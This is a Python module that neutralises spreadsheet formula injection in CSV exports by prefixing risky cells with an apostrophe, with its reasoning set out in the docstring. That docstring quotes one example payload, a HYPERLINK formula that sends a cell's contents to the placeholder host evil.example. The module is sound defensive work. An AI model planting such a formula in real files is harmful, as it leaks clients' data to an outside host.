"""The one CSV writer of every export: cells that a spreadsheet would run as a formula are
written as text. No Django here (the statement renderers use it too).

A spreadsheet program treats a cell that starts with `=`, `+`, `-` or `@` as a formula, and
some also one that starts with a tab, a carriage return or a NUL; an account title such as
`=HYPERLINK("https://evil.example/?"&A1,"Statement")` would otherwise run when a client or
a member of staff opens the file (OWASP "CSV Injection"; ASVS 5.0 V1.2.10). Such a cell gets a
leading `'`, which spreadsheets show as text and do not evaluate. The rule:

- numbers the code writes as `int` or `Decimal` (or `float`) are written as they are, so that
  a negative amount stays a number that a spreadsheet sums;
- a string that is exactly a plain number (`-12.50`, `+3`, `-1,234.50`, `-0.25%`) is also left
  as it is: a spreadsheet reads it as that number and never as a formula, and the statement
  renderers format their amounts as such strings;
- every other string that starts with one of the characters above is prefixed with `'`.

Quoting of separators, quotes and line breaks is the `csv` module's (RFC 4180 sections 2.6
and 2.7).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?%?")


def cell(value: Any) -> Any:
    """`value` as it is safe to write into a CSV cell (see the module's rule)."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """`csv.writer` with every cell passed through `cell()`."""

    def __init__(self, out, **fmtparams):
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **fmtparams) -> SafeWriter:
    """A CSV writer onto `out` (a text file, or an HttpResponse) whose cells cannot be run as
    formulas; takes the `csv.writer` format parameters."""
    return SafeWriter(out, **fmtparams)
